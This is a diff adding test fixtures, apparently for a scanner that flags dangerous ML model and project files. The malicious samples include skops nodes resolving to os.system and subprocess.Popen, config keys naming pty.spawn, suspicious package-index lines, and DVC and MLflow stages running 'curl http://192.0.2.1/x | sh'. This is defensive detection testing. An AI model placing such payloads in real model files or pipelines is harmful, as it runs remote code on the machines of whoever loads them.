@@ -174,6 +174,12 @@ bad_skops("operator", node("builtins.methodcaller", "OperatorFuncNode", attrs=AR
 bad_skops("operator_call", node("sklearn.call", "OperatorFuncNode", attrs=ARGUMENTS),
           "operator.call under a trusted name, CVE-2025-54412")
 bad_skops("function", node("posix.system", "FunctionNode"), "a function, CVE-2024-37065")
+OLD = {"module_path": "posix", "function": "system"}
+bad_skops("function_content", node("numpy.ufunc", "FunctionNode", content=OLD),
+          "a function in the content, as protocol 0 has it")
+bad_skops("function_first", {"__class__": "function", "__module__": "builtins", "content": OLD},
+          "the same without a loader, as skops 0.1 wrote it")
+bad_skops("type", node("subprocess.Popen", "TypeNode"), "a class that is kept")
 bad_skops("constructor", node("builtins.dict", "DictNode", key_types=TEXT, content={
           "a": node("os.system", "ConstructorFromReduceNode", content=ARGUMENTS)}),
           "a call in a dictionary")
@@ -184,6 +190,9 @@ MODEL = node("sklearn.linear_model._base.LinearRegression", "ObjectNode", conten
     "builtins.dict", "DictNode", key_types=node("builtins.list", "ListNode", content=[
         node("builtins.str", "TypeNode")]), content={"coef_": node(
             "numpy.ndarray", "NdArrayNode", type="numpy", file="1.npy")}))
+twin("skops", "function", skops({"__class__": "ufunc", "__module__": "numpy", "__loader__":
+     "FunctionNode", "content": {"module_path": "numpy", "function": "log1p"}}),
+     "a function of numpy, as protocol 0 has it", extension="skops")
 twin("skops", "linear", skops(MODEL, **{"1.npy": npy("<f8", (2,), doubles(1, 2))}),
      "a linear model", extension="skops")
 
@@ -220,6 +229,37 @@ add("requirements", "address", "numpy==1.26\nevil @ http://192.0.2.1/evil-1.0.ta
     "a package from an address", expected="suspicious", extension="txt")
 add("requirements", "index", "--extra-index-url https://packages.example/simple\ntorch\n",
     "another index", expected="suspicious", extension="txt")
+add("requirements", "odd_line", "--extra-index-url https://packages.example/simple\n./local\n"
+    "torch (>=1.0)\n", "another index above lines that pip alone understands",
+    expected="suspicious", extension="txt")
+add("requirements", "joined", "torch\n--extra-\\\nindex-url https://packages.example/simple\n",
+    "an option over two lines", expected="suspicious", extension="txt")
+twin("requirements", "path", "numpy (>=1.0)\n# what lies here \\\n./local\n",
+     "a package that lies beside", extension="txt")
 twin("requirements", "index", "--extra-index-url https://download.pytorch.org/whl/cpu\ntorch>=2\n"
      "transformers[torch] @ git+https://github.com/huggingface/transformers@v4.44.0\n",
      "an index that is known", extension="txt")
+
+# --- Modules under keys of their own -------------------------------------------------------------
+add("named-module", "activation", {"in_features": 1, "activation_function": "os.abort"},
+    "a layer of sentence-transformers", extension="json")
+add("named-module", "router", {"types": {"query_0": "pty.spawn"}, "structure": {"query":
+    ["query_0"]}}, "its router", extension="json")
+add("named-module", "megatron", {"peft_type": "LORA", "megatron_config": {}, "megatron_core":
+    "nobodys"}, "an adapter's core", expected="suspicious", extension="json")
+add("named-module", "custom_imports", "custom_imports:\n  imports: [nobodys]\n",
+    "what MMEngine imports first", expected="suspicious")
+add("named-module", "allennlp", {"dataset_reader": {"type": "nobodys.Reader"}, "model": {"type":
+    "x"}}, "a class where a registered name could be", expected="suspicious", extension="json")
+add("named-module", "kernels", HUB | {"attn_implementation": "owner/kernel"},
+    "kernels of another repository", expected="suspicious", extension="json")
+add("named-module", "pickle_module", "flavors:\n  pytorch: {pickle_module_name: nobodys}\n",
+    "what MLflow unpickles with", expected="suspicious")
+twin("named-module", "activation", {"in_features": 1, "activation_function":
+     "torch.nn.modules.activation.Tanh", "attn_implementation": "sdpa", "megatron_core":
+     "megatron.core"}, "what the libraries write", extension="json")
+add("project-command", "dvc", "stages:\n  a:\n    cmd: curl http://192.0.2.1/x | sh\n",
+    "a stage of DVC fetches what it runs")
+add("project-command", "mlproject", "entry_points:\n  main:\n    command: >-\n      curl "
+    "http://192.0.2.1/x | sh\n", "an entry point of MLflow does", extension="")
+twin("project-command", "dvc", "stages:\n  a:\n    cmd: python train.py\n", "a stage of DVC")
